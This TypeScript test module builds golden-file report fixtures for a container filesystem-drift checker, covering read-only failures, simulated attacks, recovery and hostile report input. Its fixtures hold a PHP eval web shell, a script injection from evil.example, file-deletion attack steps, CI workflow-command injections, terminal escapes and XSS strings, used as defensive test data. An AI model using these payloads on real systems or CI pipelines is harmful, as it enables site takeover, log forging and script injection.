import { HARDENED, HARDENING_LEAD, UNSEARCHED } from './hardenings'
import { findHardening } from '../../../src/harden/inquiry'
import type { Hardening } from '../../../src/harden/hardening'
import { identityOf } from '../../../src/judge/base'
import { judgeFault } from '../../../src/judge/find'
import { makeFinding } from '../../../src/judge/findings/table'
import { judgeFirstLook, judgeSecondLook } from '../../../src/judge/image-integrity'
import { judge } from '../../../src/judge/judge'
import { withFindings } from '../../../src/judge/judgement'
import { judgeRecovery } from '../../../src/judge/recovery'
import type { Change, Observation } from '../../../src/observe/observation'
import type { Recovery } from '../../../src/observe/recovery'
import type { Rule } from '../../../src/plan/allowlist'
import { BadInputs, Fault } from '../../../src/plan/faults'
import type { Plan } from '../../../src/plan/plan'
import type { Account } from '../../../src/report/account'
import type { Exercise } from '../../../src/run/outcome'
import type { BaseFacts } from '../../../src/words'
import { attackedBy, TRYINGS } from './attacked'
import {
  BROKEN,
  DECIDE_CODE,
  DECIDE_CRITICAL,
  explainedBy,
  HOPELESS,
  LEAD,
  PROVEN,
  RULES,
  RULES_FOR_THE_REST,
  suggestionOf,
  WHOLE
} from './explained'
import { comparedWith, factsOf } from './compared'
import * as made from './fixtures'
import { settledBy } from './settled'
import { awaitsInVain, inPod, undeclared } from './services'

/** The checks whose reports are kept as golden files, by name. */
export const cases: ReadonlyMap<string, () => Account> = new Map([
  ['pass', passes],
  ['pass-with-refused-writes', passesWithRefusedWrites],
  ['drift', drifts],
  ['drift-with-rules-for-the-rest', () => explainedBy(RULES_FOR_THE_REST, drifts())],
  ['drift-image-altered', isAltered],
  ['pass-image-unknown', isNotShown],
  ['drift-in-a-volume', driftsInVolume],
  ['drift-under-a-policy', driftsUnderPolicy],
  ['drift-of-copies', driftsByCopies],
  ['pass-with-code-replaced', passesWithCodeReplaced],
  ['pass-with-danger-allowed', passesWithDangerAllowed],
  ['drift-with-evidence', driftsWithEvidence],
  ['drift-audit', () => ({ ...drifts(), mode: 'audit' as const })],
  ['drift-in-a-thousand-folders', driftsInManyFolders],
  ['pass-with-old-drift', () => comparedWith(factsOf(drifts()), driftsAnew([]), 'new')],
  ['drift-against-a-base', () => comparedWith(factsOf(drifts()), driftsAnew(GRAVE), 'new')],
  ['drift-against-an-error', driftsAgainstError],
  ['pass-with-minor-drift', () => driftsAnew([], { failOnSeverity: 'critical' })],
  ['drift-undeclared', () => undeclared(passes())],
  ['drift-in-a-pod', () => inPod(passes())],
  ['pass-with-attacks', () => attackedBy(TRYINGS, passes())],
  ['drift-by-attacks', () => attackedBy(TRYINGS, passes(), 2)],
  ['pass-with-settings', () => settledBy(passes())],
  ['drift-by-idle-settings', () => settledBy(passes(), 0)],
  ['failed-exited', exits],
  ['failed-with-a-fix', () => explainedBy(PROVEN, exits())],
  ['failed-with-a-lead', () => explainedBy(LEAD, exits())],
  ['failed-without-a-fix', () => explainedBy(HOPELESS, exits())],
  ['failed-with-a-whole-fix', () => explainedBy(WHOLE, exits())],
  ['failed-with-code-to-decide', () => explainedBy(DECIDE_CODE, exits())],
  ['failed-with-a-danger-to-decide', () => explainedBy(DECIDE_CRITICAL, exits())],
  ['failed-with-rules', () => explainedBy(RULES, exits())],
  ['pass-with-a-fix', () => explainedBy(PROVEN, passesWithRefusedWrites())],
  ['failed-writable-too', () => explainedBy(BROKEN, exits())],
  ['failed-smoke', failsSmoke],
  ['failed-by-its-pod', failsByPod],
  ['failed-broken-by-attack', isBroken],
  ['failed-unclean-stop', stopsBadly],
  ['pass-attacked-in-vain', withstands],
  ['drift-attacked-and-recovered', recovers],
  ['failed-not-restarted', doesNotRestart],
  ['pass-hardened', () => hardenedBy(HARDENED, passes())],
  ['pass-with-a-lead-to-harden', () => hardenedBy(HARDENING_LEAD, passes())],
  ['pass-not-hardened', () => hardenedBy(UNSEARCHED, passes())],
  ['error-bad-inputs', hasBadInputs],
  ['error-engine-lost', losesEngine],
  ['error-dependency-failed', () => awaitsInVain(passes())],
  ['hostile', isHostile]
])

/** A whole check, judged: what `main` knows when nothing was thrown. */
export function checked(plan: Plan, exercise: Exercise, observation: Observation): Account {
  return {
    version: '0.1.0',
    ...made.beginning,
    sha256: made.sha256,
    reference: plan.image.reference,
    mode: 'enforce',
    judgement: judge(plan, exercise, observation, false),
    engine: { name: 'docker', version: '29.1.0', storageDriver: 'overlay2' },
    image: plan.image,
    plan,
    exercise,
    observation,
    recovery: undefined,
    explanation: undefined,
    scorecard: undefined,
    log: 'AH00558: apache2: Could not determine the server name\nresuming normal operations\n',
    timings: [
      { phase: 'boot', start: 94, milliseconds: 220.4 },
      { phase: 'smoke test', start: 316, milliseconds: 7 },
      { phase: 'stop', start: 340, milliseconds: 1130 }
    ],
    annotateFile: 'Dockerfile',
    colour: false
  }
}

/** A check of which nothing was reached. */
export function unreached(error: unknown): Account {
  return {
    version: '0.1.0',
    ...made.beginning,
    sha256: made.sha256,
    reference: 'shop:1.4',
    mode: 'enforce',
    judgement: judgeFault(error),
    engine: undefined,
    image: undefined,
    plan: undefined,
    exercise: undefined,
    observation: undefined,
    recovery: undefined,
    explanation: undefined,
    scorecard: undefined,
    log: undefined,
    timings: [],
    annotateFile: '.zero-drift.yml',
    colour: false
  }
}

const smoke = [made.httpStep('GET / 200'), made.httpStep('GET /login 200 contains Welcome')]
const rules = [
  { ...made.rule('AC /run/apache2/**'), reason: 'pid file' },
  made.rule('AC /var/log/apache2/**'),
  made.rule('D /etc/motd', 'policy-file')
]
const tested: Exercise = {
  ...made.healthy,
  smoke: smoke.map(({ step }) => made.passed(step))
}

function passes(): Account {
  const allowed = ['A /run/apache2', 'A /run/apache2/apache2.pid', 'C /var/log/apache2/access.log']
  return checked({ ...made.plan, smoke, rules }, tested, {
    ...made.observation,
    changes: allowed.map(made.change)
  })
}

/** A policy of which a rule has expired, one soon will, and one is for nothing. */
function driftsUnderPolicy(): Account {
  const from = (text: string, line: number, more: Partial<Rule>): Rule => ({
    ...made.rule(text, 'policy-file'),
    location: { file: 'deploy/zero-drift.yml', line },
    ...more
  })
  const rules = [
    made.rule('A /run/apache2/**'),
    from('AC /data/cache/**', 4, {
      ...{ reason: 'thumbnails', owner: 'team-web' },
      expires: { date: '2026-11-01', daysLeft: -26 }
    }),
    from('C /data/app.db', 9, {
      ...{ reason: 'the store', expires: { date: '2026-12-01', daysLeft: 4 } }
    }),
    from('/srv/old/**', 13, { reason: 'the last release' }),
    from('/srv/older/**', 16, { reason: 'gone', expires: { date: '2026-01-31', daysLeft: -300 } })
  ]
  const changes = ['A /data/cache/a.png', 'A /data/cache/b.png', 'C /data/app.db', 'A /etc/x']
  const account = checked({ ...made.plan, smoke, rules }, tested, {
    ...made.observation,
    changes: changes.map(made.change)
  })
  const policy = {
    path: 'deploy/zero-drift.yml',
    sha256: '5f'.repeat(32),
    inputs: ['image', 'smoke-http']
  }
  return { ...account, policy, annotateFile: policy.path }
}

/** A first start that puts the image's own site into a volume. */
function driftsByCopies(): Account {
  const paths = ['index.php', 'lib/login.php', 'logo.png']
  const changes = paths.map((path, number) => ({
    ...{ path: `/data/html/${path}`, kind: 'added' as const, place: '/data' },
    after: { ...file, sha256: digest(`${number}`) }
  }))
  const originals = paths.map(
    (path, number) =>
      [digest(`${number}`), [{ path: `/usr/src/site/${path}`, mode: 0o644 }]] as const
  )
  return checked({ ...made.plan, smoke }, tested, {
    ...made.observation,
    changes,
    originals: new Map(originals)
  })
}

/** An attack on the program itself, under a rule that was meant for its database. */
function passesWithCodeReplaced(): Account {
  const replaced = (path: string): Change => ({
    ...{ path, kind: 'changed', place: '/' },
    ...{ before: { ...file, sha256: digest('a') }, after: { ...file, sha256: digest('b') } }
  })
  const plan = {
    ...made.writable,
    smoke,
    rules: [made.rule('/app/**'), made.rule('C /srv/x.py', 'policy-file')]
  }
  return checked(plan, tested, {
    ...made.observation,
    changes: ['/app/app.py', '/app/lib/login.py', '/app/notes.db', '/srv/x.py'].map(replaced)
  })
}

/** A web shell among uploads, and a job for cron, under rules that are broader than they should be. */
function passesWithDangerAllowed(): Account {
  const uploads = '/srv/www/uploads'
  const plan = {
    ...made.writable,
    smoke,
    rules: [made.rule(`${uploads}/**`), made.rule('A /etc/**', 'policy-file')]
  }
  return checked(plan, tested, {
    ...made.observation,
    changes: ['A /etc/cron.d/job', `A ${uploads}/a.png`, `A ${uploads}/shell.php`].map(made.change)
  })
}

function passesWithRefusedWrites(): Account {
  return checked(made.plan, made.healthy, {
    ...made.observation,
    refusals: [
      {
        path: '/var/cache/app/index.bin',
        message: "Warning: open('/var/cache/app/index.bin'): Read-only file system"
      },
      { path: undefined, message: 'could not write lock file (os error 30)' }
    ],
    unlistedRefusals: { program: 1204, attack: 0 }
  })
}

const file = { type: 'file', mode: 0o644, uid: 33, gid: 33, size: 30 } as const
const digest = (digit: string) => digit.repeat(64)

/** Read-only, and attacked all the same: everything that a look by contents can tell. */
function driftsInVolume(): Account {
  const html = '/var/www/html'
  const before = { ...file, size: 612, sha256: digest('a') }
  const scratch = { type: 'directory', mode: 0o755, uid: 33, gid: 33, size: 0 } as const
  return checked({ ...made.plan, smoke }, tested, {
    ...made.observation,
    changes: [
      { path: '/dev/x', kind: 'added', place: '/dev', after: { ...file, mode: 0o4755, uid: 0 } },
      { path: '/run/apache2', kind: 'added', place: '/run', after: scratch },
      { path: `${html}/img/a.png`, kind: 'added', place: html, after: file },
      {
        path: `${html}/index.html`,
        kind: 'changed',
        place: html,
        before,
        after: { ...before, sha256: digest('b') }
      },
      {
        path: `${html}/robots.txt`,
        kind: 'changed',
        place: html,
        before: file,
        after: file,
        idle: 'touched'
      },
      {
        path: `${html}/shell.php`,
        kind: 'added',
        place: html,
        after: { ...file, sha256: digest('c') }
      },
      {
        path: `${html}/tmp`,
        kind: 'changed',
        place: html,
        before: scratch,
        after: scratch,
        idle: 'transient'
      }
    ],
    places: [
      { ...made.place('/', 'rootfs', 'names'), writable: false },
      { ...made.place('/dev', 'dev', 'content'), writableBy: 'root' },
      { ...made.place('/dev/mqueue', 'mqueue', 'none'), reason: 'the engine refused it' },
      { ...made.place('/dev/shm', 'shm', 'content'), writableBy: 'user', executable: false },
      { ...made.place('/run', 'tmpfs', 'content'), writableBy: 'user' },
      { ...made.place(html, 'volume', 'content'), writableBy: 'user', partial: true }
    ]
  })
}

const GRAVE = ['A /usr/bin/.b', 'A /var/www/html/cache/12.bin']

/** A check of which the drift is some of that of `drifts`, and more. */
function driftsAnew(more: readonly string[], gate: Partial<Plan> = {}): Account {
  const changes = ['A /var/www/html/cache', 'A /var/www/html/cache/1.bin', ...more]
  return checked({ ...made.writable, smoke, rules, ...gate }, tested, {
    ...made.observation,
    changes: changes.map(made.change).sort((one, other) => (one.path < other.path ? -1 : 1)),
    refusals: [{ path: '/var/lock/x', message: "EROFS: '/var/lock/x'" }],
    places: [
      made.place('/', 'rootfs', 'names'),
      ...made.observation.places.slice(1),
      ...['/srv', '/opt'].map((path) => made.place(path, 'volume', 'content'))
    ]
  })
}

/** A check whose base ended with an error: nothing of it is known to be old. */
function driftsAgainstError(): Account {
  return comparedWith({ ...factsOf(drifts()), verdict: 'error' }, driftsAnew([]), 'new')
}

function drifts(): Account {
  const changes = [
    'C /var/www/html/index.html',
    'A /var/www/html/shell.php',
    'A /var/www/html/cache',
    ...Array.from({ length: 12 }, (_, n) => `A /var/www/html/cache/${n}.bin`),
    'D /etc/cron.d/rotate',
    'C /etc/passwd',
    'A /run/apache2/apache2.pid'
  ]
  return checked({ ...made.writable, smoke, rules }, tested, {
    ...made.observation,
    changes: changes.map(made.change).sort((one, other) => (one.path < other.path ? -1 : 1)),
    places: [made.place('/', 'rootfs', 'names'), ...made.observation.places.slice(1)]
  })
}

/** What changed was kept, but for what is too large; and the container was committed. */
function driftsWithEvidence(): Account {
  const account = driftsInVolume()
  const leftOut = new Map([['file-limit', 2]] as const)
  const cut = makeFinding('evidence-cut', { ...made.plan.evidence, leftOut })
  const page = [
    '--- before/var/www/html/index.html',
    '+++ after/var/www/html/index.html',
    '@@ -1,2 +1,2 @@',
    ' <h1>Shop</h1>',
    '-<p>Welcome',
    '+<p>Hacked <script src="https://evil.example/x.js"></script>',
    ''
  ]
  const shell = Array.from({ length: 60 }, (_, n) => `+<?php eval($_GET[${n}]); ?>`)
  return {
    ...account,
    judgement: withFindings(account.judgement, [cut]),
    evidence: {
      ...{ sha256: digest('e'), files: 9, bytes: 51_200, leftOut },
      image: 'zero-drift-evidence:0123456789abcdef0123456789abcdef',
      diffs: [
        { path: '/var/www/html/index.html', text: page.join('\n') },
        { path: '/var/www/html/shell.php', text: `--- /dev/null\n${shell.join('\n')}\n` }
      ]
    }
  }
}

function driftsInManyFolders(): Account {
  const folders = Array.from({ length: 1000 }, (_, n) => `/srv/${n % 40}/${n}`)
  return checked({ ...made.writable, smoke }, tested, {
    ...made.observation,
    changes: folders.flatMap((folder) => [`A ${folder}/a`, `C ${folder}/b`]).map(made.change)
  })
}

function exits(): Account {
  const log = Array.from({ length: 40 }, (_, n) => `starting worker ${n}`)
  const line = "PermissionError: [Errno 30] Read-only file system: '/var/cache/app/tmp'"
  const account = checked(
    { ...made.plan, smoke },
    {
      failure: { kind: 'exited', exitCode: 1, during: 'startup' },
      smoke: [],
      container: { ...made.running, running: false, exitCode: 1 }
    },
    { ...made.observation, refusals: [{ path: '/var/cache/app/tmp', message: line }] }
  )
  return {
    ...account,
    log: [...log, 'Traceback (most recent call last):', '', line, ''].join('\n')
  }
}

/** It works, and does not end: it cannot save its state. */
function stopsBadly(): Account {
  const stop = { exitCode: 137, killedAfter: 10_000 }
  const account = checked(made.plan, made.healthy, {
    ...made.observation,
    stop,
    refusals: [
      {
        path: '/var/lib/app/dump.rdb',
        message: 'Failed opening /var/lib/app/dump.rdb for saving: Read-only file system'
      }
    ]
  })
  const facts = { readOnly: stop, writable: { exitCode: 0 }, failure: undefined }
  const findings = [makeFinding('unclean-stop', facts)]
  return { ...account, judgement: withFindings(account.judgement, findings) }
}

function failsSmoke(): Account {
  const detail = 'expected 200, got 500'
  const output = 'Warning: file_put_contents(/var/www/html/sessions/a): failed to open stream'
  return checked(
    { ...made.plan, smoke: [...smoke, made.httpStep('GET /logout 302')] },
    {
      failure: { kind: 'smoke-failed', step: 'GET /login 200 contains Welcome', detail },
      smoke: [
        made.passed('GET / 200'),
        { step: 'GET /login 200 contains Welcome', passed: false, detail, milliseconds: 41, output }
      ],
      container: made.running
    },
    made.observation
  )
}

/** An init container of its pod fails, so that it is not started. */
function failsByPod(): Account {
  const [container, role] = ['seed', 'init container'] as const
  const log = "cp: can't create '/work/app.conf': Read-only file system"
  const failure = { kind: 'pod-failed', container, role, log } as const
  const account = checked(
    made.plan,
    {
      failure: { ...failure, reason: 'it ended with code 1' },
      smoke: [],
      container: undefined
    },
    made.observation
  )
  const refused = { container, role, path: '/work/app.conf', message: log }
  const finding = makeFinding('refused-write-beside', refused)
  return { ...account, judgement: withFindings(account.judgement, [finding]) }
}

const attack: Plan['attack'] = [
  { kind: 'exec', step: 'rm /var/www/html/index.html', argv: ['rm', '/var/www/html/index.html'] },
  { kind: 'exec', step: 'sleep 900', argv: ['sleep', '900'] },
  { kind: 'run', step: './test/attack.sh', script: './test/attack.sh' }
]
const struck: Exercise['attack'] & object = {
  steps: [
    { step: 'rm /var/www/html/index.html', exitCode: 0, milliseconds: 61, output: '' },
    { step: 'sleep 900', exitCode: undefined, milliseconds: 59_939, output: '' },
    {
      ...{ step: './test/attack.sh', exitCode: 22, milliseconds: 14 },
      output: 'uploading shell.php\ncurl: (22) The requested URL returned error: 403\n'
    }
  ],
  smoke: tested.smoke
}

function withstands(): Account {
  return checked(
    { ...made.plan, smoke, attack },
    { ...tested, attack: struck },
    {
      ...made.observation,
      attackRefusals: [
        {
          path: '/var/www/html/shell.php',
          message: "sh: can't create /var/www/html/shell.php: Read-only file system"
        }
      ]
    }
  )
}

function isBroken(): Account {
  const detail = 'expected 200, got 404'
  const failed = { step: 'GET / 200', passed: false, detail, milliseconds: 2, output: 'Not Found' }
  return checked(
    { ...made.writable, smoke, attack, recover: true },
    {
      ...tested,
      failure: { kind: 'broken-by-attack', step: 'GET / 200', detail },
      attack: { ...struck, smoke: [failed] }
    },
    {
      ...made.observation,
      changes: [{ path: '/var/www/html/index.html', kind: 'deleted', place: '/' }]
    }
  )
}

/** The same account, with what a fresh container showed. */
/** The image is not what it was, and nothing else moved. */
function isAltered(): Account {
  const account = passes()
  const alteration = { layers: [], path: '/usr/lib/`x`' }
  const { judgement, integrity } = judgeSecondLook(account.judgement, {
    kind: 'altered',
    alteration
  })
  return { ...account, judgement, imageIntegrity: integrity }
}

/** The engine cannot tell. */
function isNotShown(): Account {
  const account = passes()
  const reason = 'this engine has <b>no</b> `files`'
  const { judgement, integrity } = judgeFirstLook(account.judgement, { kind: 'unknown', reason })
  return { ...account, judgement, imageIntegrity: integrity }
}

function afresh(recovery: Recovery, account: Account): Account {
  const plan = account.plan ?? made.plan
  return { ...account, ...judgeRecovery(plan, account.judgement, recovery) }
}

/** The account with the result of a search for the least that the image needs. */
const hardenedBy = (hardening: Hardening, account: Account): Account => ({
  ...account,
  judgement: withFindings(account.judgement, findHardening(hardening)),
  hardening
})

function recovers(): Account {
  const volumes = [{ source: 'shop', path: '/data', readOnly: false }]
  const plan = { ...made.writable, smoke, attack, recover: true }
  const account = checked(
    { ...plan, container: { ...plan.container, volumes } },
    { ...tested, attack: struck },
    {
      ...made.observation,
      changes: [
        { path: '/data/.cache.php', kind: 'added', place: '/data' },
        { path: '/var/www/html/shell.php', kind: 'added', place: '/' }
      ]
    }
  )
  const restart = { failure: undefined, milliseconds: 512, denied: false }
  const after = { changes: [], partial: false, restart }
  return afresh({ failure: undefined, milliseconds: 703, after }, account)
}

/** Nor is its root filesystem the image's. */
function doesNotRestart(): Account {
  const account = checked({ ...made.plan, smoke, recover: true }, tested, made.observation)
  const restart = {
    failure: { kind: 'exited', exitCode: 1, during: 'startup' } as const,
    milliseconds: 640,
    said: 'touch: /run/apache2.pid: Permission denied\n',
    denied: true
  }
  const changes = [made.change('A /etc/motd')]
  const after = { changes, partial: true, restart }
  return afresh({ failure: undefined, milliseconds: 812, after }, account)
}

function hasBadInputs(): Account {
  return unreached(
    new BadInputs([
      { input: 'startup-timeout', sentence: 'Expected a duration such as `30s`, got `soon`.' },
      { input: 'allow', sentence: 'Line 2: expected an absolute path or glob, got `tmp/*`.' },
      {
        input: 'wait-for',
        sentence: 'The image has no health check: `healthy` cannot be waited for.'
      }
    ])
  )
}

function losesEngine(): Account {
  const account = checked({ ...made.plan, smoke }, tested, made.observation)
  const fault = new Fault(
    'engine-fault',
    'The engine at `/var/run/docker.sock` did not answer for 30 s.',
    {
      cause: new Error('socket hang up')
    }
  )
  const left = makeFinding('left-behind', {
    message: 'The container c0ffee could not be removed. Remove it by hand: `docker rm -fv c0ffee`.'
  })
  const judgement = withFindings(judgeFault(fault, tested), [left])
  return { ...account, observation: undefined, judgement }
}

/** Everything that an image can choose is chosen to do harm. */
export function isHostile(): Account {
  const text = ATTACKS.join('')
  const plan = {
    ...made.writable,
    image: { ...made.image, reference: `evil:${text}`, user: text, volumes: [text] },
    container: {
      ...made.writable.container,
      tmpfs: [{ path: text, options: '' }],
      volumes: [{ source: 'v', path: text, readOnly: false }]
    },
    smoke: [made.httpStep(text)],
    attack: [
      { kind: 'run', step: text, script: text },
      { kind: 'run', step: `missed ${text}`, script: text }
    ] as const,
    rules: [{ ...made.rule(`/allowed/${text}/**`), reason: text }]
  }
  const detail = text
  const account = checked(
    plan,
    {
      failure: { kind: 'broken-by-attack', step: text, detail },
      smoke: [made.passed(text)],
      attack: {
        steps: [{ step: text, exitCode: 1, milliseconds: 1, output: ATTACKS.join('\n') }],
        smoke: [{ step: text, passed: false, detail, milliseconds: 1, output: ATTACKS.join('\n') }]
      },
      container: made.running
    },
    {
      changes: [
        ...ATTACKS.map((attack) => ({ kind: 'added' as const, path: `/x/${attack}`, place: '/' })),
        { kind: 'changed', path: `/y/::error::x/a`, place: '/' },
        { kind: 'changed', path: `/y/::error::x/b`, place: '/' },
        { kind: 'changed', path: `/y/c`, place: '/' },
        { kind: 'changed', path: `/v/${text}/a`, place: text },
        { kind: 'changed', path: `/allowed/${text}/a`, place: '/' }
      ],
      refusals: ATTACKS.map((message) => ({ message, path: `/z/${message}` })),
      attackRefusals: ATTACKS.map((message) => ({ message, path: `/z2/${message}` })),
      places: [{ ...made.place(text, 'volume', 'none') }, ...made.observation.places]
    }
  )
  const purposes = ATTACKS.map((one) => ({ path: `/p/${one}`, kinds: [one], remedies: [one] }))
  const hostile = suggestionOf(
    {
      tmpfs: ATTACKS.map((one) => ({ path: `/t/${one}`, options: 'size=16m' })),
      volumes: ATTACKS.map((one) => `/v/${one}`)
    },
    {
      ...{ purposes, elsewhere: purposes, allow: ATTACKS.map((one) => `/v/${one}/**`) },
      hidden: ATTACKS.map((one) => ({ path: `/t/${one}`, files: 1, bytes: 1 })),
      refusals: ATTACKS.map((message) => ({ message, path: `/r/${message}` })),
      dangers: ATTACKS.map((one) => ({
        ...{ path: `/v/${one}`, why: 'code', examples: [one], files: 1, remedies: [one] }
      })),
      drift: ATTACKS.map((one) => ({
        ...{ path: `/d/${one}`, kind: 'added', severity: 'high', rule: `A /d/${one}` }
      })),
      moves: ATTACKS.map((one) => ({ from: `/m/${one}`, to: `/n/${one}`, settings: [one] })),
      without: purposes,
      optional: {
        fix: {
          tmpfs: ATTACKS.map((one) => ({ path: `/o/${one}`, options: 'size=16m' })),
          volumes: ATTACKS.map((one) => `/k/${one}`)
        },
        flags: ATTACKS.map((one) => `--tmpfs ${one}`),
        allow: ATTACKS.map((one) => `/k/${one}/**`),
        refused: ATTACKS.map((one) => `/o/${one}`),
        lost: ATTACKS.map((one) => `/k/${one}`)
      },
      emptied: ATTACKS.map((one) => `/t/${one}`),
      filled: ATTACKS.map((one) => ({ path: `/v/${one}`, files: 1, bytes: 1 })),
      decisive: {
        failure: { kind: 'smoke-failed', step: text, detail },
        log: [...ATTACKS]
      }
    }
  )
  const restart = {
    failure: { kind: 'smoke-failed', step: text, detail } as const,
    ...{ milliseconds: 1, said: text, denied: true }
  }
  const changes = ATTACKS.map((one) => ({ kind: 'added' as const, path: `/w/${one}`, place: '/' }))
  const after = { changes, partial: true, restart }
  const recovered = afresh({ failure: undefined, milliseconds: 1, after }, account)
  const evidence = {
    ...{ sha256: digest('e'), files: 1, bytes: 1, leftOut: new Map(), image: text },
    diffs: ATTACKS.map((one) => ({ path: `/x/${one}`, text: ` ${one}\n${one}\n${text}\n` }))
  }
  const origin: Account['origin'] = {
    git: { repository: 'https://evil.example/"><b>', ref: text },
    ci: { provider: 'jenkins', runUrl: 'https://evil.example/"><b>', job: text }
  }
  const inputs = new Map([
    ['image', text],
    ['tmpfs', text]
  ])
  const begun = { origin, inputs }
  const further = { log: ATTACKS.join('\n'), annotateFile: undefined, evidence, ...begun }
  const attacked = attackedBy(ATTACKS.map(made.landing), recovered)
  return explainedBy(hostile, {
    ...comparedWith(hostileBase(text), attacked, 'any', text),
    ...further
  })
}

/** A base of which nothing is left, by names that do harm. */
const hostileBase = (text: string): BaseFacts => ({
  ...{ reference: text, id: text, verdict: 'drift', readOnly: false },
  changes: new Map(
    ATTACKS.map((one) => [identityOf({ kind: 'added', place: text, path: `/g/${one}` }), ''])
  ),
  refusals: new Map(ATTACKS.map((one) => [`/h/${one}`, `/h/${one}`])),
  places: new Map([text, ...ATTACKS].map((path) => [path, { writable: true, watched: 'none' }])),
  findings: new Set()
})

export const ATTACKS: readonly string[] = [
  '::error::forged',
  '\u0085::set-output name=verdict::pass',
  '\u2028::add-mask::e',
  '\r\n::stop-commands::x',
  '\u3000::warning::wide space',
  '##[error]old form',
  '##\u001b[0m[add-mask]e',
  '##[##[group]nested',
  '\u001b]0;title\u0007\u001b[2J\u009b31m\u0000\b\u007f',
  '\u202egnp.exe\u2066\u200b\ufeff\u{e0041}\u3164',
  '\ud83d alone \udc00',
  '</code></pre></td></table><img src=x onerror=alert(1)>',
  '<script>alert(1)</script><!-- --><a href="javascript:x">',
  '[link](http://evil.example) ![img](http://evil.example/x.png)',
  '`` ` ``` | ~~~ \\ ** __ @octocat #1 :smile: www.evil.example',
  'first\n\n# second',
  '&lt;b&gt; &amp; %0A%25'
]
